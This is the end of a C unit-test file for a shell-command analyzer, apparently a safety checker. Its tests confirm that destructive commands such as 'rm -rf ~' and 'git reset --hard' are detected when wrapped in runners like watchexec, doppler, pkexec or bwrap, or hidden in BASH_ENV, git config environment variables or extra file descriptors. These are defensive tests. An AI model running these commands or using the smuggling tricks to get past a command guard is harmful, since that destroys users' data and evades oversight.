		{"watchexec -e rs -- rm -rf ~", "rm -rf ~", "watchexec"},
		{"watchexec -w src 'rm -rf ~'", "rm -rf ~", "watchexec"},
		{"hyperfine 'sleep 0.1' 'rm -rf ~'", "rm -rf ~", "hyperfine"},
		{"hyperfine -L n 1,2 --prepare 'rm -rf ~' ls", "rm -rf ~", "hyperfine --prepare"},
		{"hyperfine -w 3 -p 'rm -rf ~' ls", "rm -rf ~", "hyperfine -p"},
		{"pwsh -c 'rm -rf ~'", "rm -rf ~", "pwsh"},
		{"powershell -NoProfile -command rm -rf ~", "rm -rf ~", "powershell"},
		{"proot -r /srv/root -b /dev rm -rf ~", "rm -rf ~", "proot"},
		{"fakeroot -s state -- rm -rf ~", "rm -rf ~", "fakeroot"},
		{"chrt --idle 0 rm -rf ~", "rm -rf ~", "chrt"},
		{"taskset -c 0,1 rm -rf ~", "rm -rf ~", "taskset"},
		{"flock -x /tmp/lock rm -rf ~", "rm -rf ~", "flock"},
		{"unbuffer -p rm -rf ~", "rm -rf ~", "unbuffer"},
		{"faketime -f +1d rm -rf ~", "rm -rf ~", "faketime"},
		{"systemd-run --scope -p MemoryMax=1G rm -rf ~", "rm -rf ~", "systemd-run"},
		/* beyond rt5's list */
		{"doppler run -p app -c dev -- rm -rf ~", "rm -rf ~", "doppler"},
		{"doppler run --command 'rm -rf ~'", "rm -rf ~", "doppler --command"},
		{"op run --env-file=.env -- rm -rf ~", "rm -rf ~", "op"},
		{"aws-vault exec prod -d 1h -- rm -rf ~", "rm -rf ~", "aws-vault"},
		{"dotenv -e .env -- rm -rf ~", "rm -rf ~", "dotenv"},
		{"dotenv -f .env run rm -rf ~", "rm -rf ~", "dotenv"},
		{"env-cmd -f .env rm -rf ~", "rm -rf ~", "env-cmd"},
		{"infisical run --command 'rm -rf ~'", "rm -rf ~", "infisical --command"},
		{"chamber exec app other -- rm -rf ~", "rm -rf ~", "chamber"},
		{"sops exec-env s.json 'rm -rf ~'", "rm -rf ~", "sops"},
		{"pyenv exec rm -rf ~", "rm -rf ~", "pyenv"},
		{"rustup run stable rm -rf ~", "rm -rf ~", "rustup"},
		{"opam exec -- rm -rf ~", "rm -rf ~", "opam"},
		{"tox exec -e py -- rm -rf ~", "rm -rf ~", "tox"},
		{"pkexec --user root rm -rf ~", "rm -rf ~", "pkexec"},
		{"run0 -u root rm -rf ~", "rm -rf ~", "run0"},
		{"envdir ./env rm -rf ~", "rm -rf ~", "envdir"},
		{"softlimit -m 100000 rm -rf ~", "rm -rf ~", "softlimit"},
		{"cpulimit -l 50 -- rm -rf ~", "rm -rf ~", "cpulimit"},
		{"numactl -N 0 -m 0 rm -rf ~", "rm -rf ~", "numactl"},
		{"cgexec -g cpu:grp rm -rf ~", "rm -rf ~", "cgexec"},
		{"bwrap --ro-bind / / --dev /dev rm -rf ~", "rm -rf ~", "bwrap"},
		{"ccache rm -rf ~", "rm -rf ~", "ccache"},
		{"perf record -g -- rm -rf ~", "rm -rf ~", "perf"},
		{"ssh-agent rm -rf ~", "rm -rf ~", "ssh-agent"},
		{"distrobox enter box -- rm -rf ~", "rm -rf ~", "distrobox"},
		{"toolbox run rm -rf ~", "rm -rf ~", "toolbox"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++)
		expect_cmd_via(t[i].text, t[i].cmd, t[i].via);
}

/* The runner table's ordinary uses stay resolved; other subcommands run
 * nothing. */
static void test_runner_table_plain(void **state)
{
	(void)state;
	/* harmless uses: the inner command is found, and resolved (fd's found
	 * path is an unknown word, as xargs' input is) */
	static const struct {
		const char *text, *cmd;
	} ok[] = {
		{"uv run --locked --group dev tox run -e typing", "tox run -e typing"},
		{"poetry run pytest -v", "pytest -v"},
		{"bundle exec rake test", "rake test"},
		{"conda run -n base python -V", "python -V"},
		{"mise exec node@20 -- node -v", "node -v"},
		{"nix develop -c make test", "make test"},
		{"nix-shell --run 'make test'", "make test"},
		{"gosu nobody id", "id"},
		{"dumb-init node server.js", "node server.js"},
		{"setarch x86_64 -R ./a.out", "./a.out"},
		{"watchexec -w src -- 'make && ./run'", "./run"},
		{"hyperfine --warmup 3 'make -j4'", "make -j4"},
		{"fd -e c -x wc -l", "wc -l \u2026"},
		{"pnpm exec eslint .", "eslint ."},
		{"direnv exec /tmp/proj make test", "make test"},
		{"/lib64/ld-linux-x86-64.so.2 /bin/ls -la", "/bin/ls -la"},
		{"pwsh -NoProfile -ExecutionPolicy Bypass -c make test", "make test"},
		{"doppler run -p app -c dev -- npm test", "npm test"},
		{"aws-vault exec prod -d 1h -- aws s3 ls", "aws s3 ls"},
		{"rustup run nightly cargo build", "cargo build"},
		{"ccache gcc -c x.c", "gcc -c x.c"},
		{"perf stat -e cycles make", "make"},
		/* dlx fetches a package and runs its bin, named like the package */
		{"yarn dlx rimraf dist", "rimraf dist"},
		{"pnpm dlx rimraf dist", "rimraf dist"},
		{"yarn dlx -p del-cli del dist", "del dist"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(ok); i++) {
		shell_analysis a = analyze_ok(ok[i].text);
		const shell_cmd *c = find_cmd(&a, ok[i].cmd);
		if (!c || c->unresolved || a.cmds[0].unresolved) {
			dump(&a);
			fail_msg("%s: no '%s', or unresolved", ok[i].text, ok[i].cmd);
		}
		shell_analysis_free(&a);
	}
	/* no command runs: other subcommands, listing, packages fetched */
	static const char *const none[] = {"uv pip install rm", "pnpm dlx", "mise x python@3.12",
					   "ld.so --list /bin/rm", "nix-shell -p rm", "poetry add rm",
					   "pwsh -File rm.ps1", "cargo run -- rm -rf ~",
					   "ccache -M 5G", "cpulimit -l 50 -p 1234", "numactl --hardware",
					   "ssh-agent -s", "dotenv run"};
	for (size_t i = 0; i < ARRAY_SIZE(none); i++) {
		shell_analysis a = analyze_ok(none[i]);
		if (a.ncmds != 1 || a.unresolved) {
			dump(&a);
			fail_msg("%s: runs something", none[i]);
		}
		shell_analysis_free(&a);
	}
}

static void test_runner_table_dirs(void **state)
{
	(void)state;
	/* options giving the directory the command runs in, before or after
	 * the subcommand, also for what an option runs */
	shell_analysis a = analyze_ok("uv --directory /etc run rm -rf a; conda run --cwd /srv -n b "
				      "rm b; mise exec -C /opt -- rm c; pnpm -C /var exec rm d; "
				      "yarn exec --cwd=/usr rm e; mise -C /boot exec -c 'rm f'; "
				      "conda run --cwd \"$D\" rm g; uv run rm h");
	assert_string_equal(get_cmd(&a, "rm -rf a")->cwd, "/etc");
	assert_string_equal(get_cmd(&a, "rm b")->cwd, "/srv");
	assert_string_equal(get_cmd(&a, "rm c")->cwd, "/opt");
	assert_string_equal(get_cmd(&a, "rm d")->cwd, "/var");
	assert_string_equal(get_cmd(&a, "rm e")->cwd, "/usr");
	assert_string_equal(get_cmd(&a, "rm f")->cwd, "/boot");
	assert_true(get_cmd(&a, "rm g")->cwd_unresolved);
	assert_null(get_cmd(&a, "rm h")->cwd);
	shell_analysis_free(&a);
	/* PowerShell beyond plain words is held with what it is */
	static const char *const ps[] = {"pwsh -Command 'Remove-Item -Recurse -Force ~'",
					 "pwsh -c '$env:X=1; ls'", "powershell -ec ZQBjAGgAbwA="};
	for (size_t i = 0; i < ARRAY_SIZE(ps); i++) {
		a = analyze_ok(ps[i]);
		if (!a.cmds[0].unresolved || !strstr(a.cmds[0].unresolved_reason, "PowerShell"))
			fail_msg("%s: not held as PowerShell", ps[i]);
		shell_analysis_free(&a);
	}
}

/* What a command's environment makes a shell or git run: a startup file
 * (BASH_ENV, ENV) is sourced, git settings from GIT_CONFIG_COUNT are
 * `git -c`, a here-string on another descriptor feeds a shell's stdin. */
static void test_env_setup_and_fds(void **state)
{
	(void)state;
	static const struct {
		const char *text, *cmd, *via;
	} t[] = {
		{"BASH_ENV=<(echo 'rm -rf ~') bash -c true", "rm -rf ~", ". <(echo …)"},
		{"BASH_ENV=<(echo 'rm -rf ~') bash -c true", ". <(echo 'rm -rf ~')", "BASH_ENV="},
		{"ENV=<(printf %s 'rm -rf /x') sh -i", "rm -rf /x", ". <(echo …)"},
		{"export BASH_ENV=<(echo 'rm -rf ~'); bash -c true", "rm -rf ~", ". <(echo …)"},
		{"BASH_ENV=./env.sh make", ". ./env.sh", "BASH_ENV="},
		{"source <(echo 'rm -rf /etc')", "rm -rf /etc", "source <(echo …)"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0='reset --hard' git st",
		 "git reset --hard", "git alias"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit",
		 "git -c core.hooksPath=/tmp/h", "GIT_CONFIG_COUNT="},
		{"export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~'",
		 "rm -rf ~", "*"},
		{"exec 3<<< 'rm -rf ~'; sh <&3", "rm -rf ~", "sh <<<"},
		{"exec 4<<'E'\ngit reset --hard\nE\nbash <&4", "git reset --hard", "bash <<"},
		{"sh 3<<< 'rm -rf ~' <&3", "rm -rf ~", "sh <<<"},
		{"GIT_CONFIG_PARAMETERS=\"'alias.st'='reset --hard'\" git st", "git reset --hard",
		 "git alias"},
		{"GIT_CONFIG_PARAMETERS=\"'user.name'='a b' 'core.pager'='rm -rf ~'\" git log",
		 "rm -rf ~", "git -c"},
		{"GIT_CONFIG_PARAMETERS=\"'alias.x'='!echo \\\"it'\\\\''s\\\"'\" git x", "echo it's",
		 "git alias"},
	};
	for (size_t i = 0; i < ARRAY_SIZE(t); i++)
		expect_cmd_via(t[i].text, t[i].cmd, t[i].via);
	/* not followed: unresolved, never silently dropped */
	static const char *const unres[] = {
		"BASH_ENV=$F bash -c true", "GIT_CONFIG_COUNT=$N GIT_CONFIG_KEY_0=a.b git st",
		"GIT_CONFIG_PARAMETERS=\"alias.st=reset\" git st", "GIT_CONFIG_PARAMETERS=$P git st",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0=\"$V\" git st"};
	for (size_t i = 0; i < ARRAY_SIZE(unres); i++) {
		shell_analysis a = analyze_ok(unres[i]);
		if (!a.unresolved) {
			dump(&a);
			fail_msg("%s: want unresolved", unres[i]);
		}
		shell_analysis_free(&a);
	}
	/* a descriptor opened on a file is a script file, as `sh < f` */
	shell_analysis a = analyze_ok("exec 3< ci.sh; sh <&3");
	assert_false(a.unresolved);
	shell_analysis_free(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_privilege_wrappers), cmocka_unit_test(test_exec_wrappers),
		cmocka_unit_test(test_find),               cmocka_unit_test(test_shells),
		cmocka_unit_test(test_eval_source),        cmocka_unit_test(test_git),
		cmocka_unit_test(test_runners),            cmocka_unit_test(test_chdir_options),
		cmocka_unit_test(test_written_then_run),   cmocka_unit_test(test_interp_calls),
		cmocka_unit_test(test_awk_tar),            cmocka_unit_test(test_interpreters),
		cmocka_unit_test(test_argv_api),           cmocka_unit_test(test_round2_runners),
		cmocka_unit_test(test_runner_table),       cmocka_unit_test(test_runner_table_plain),
		cmocka_unit_test(test_runner_table_dirs),  cmocka_unit_test(test_env_setup_and_fds),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
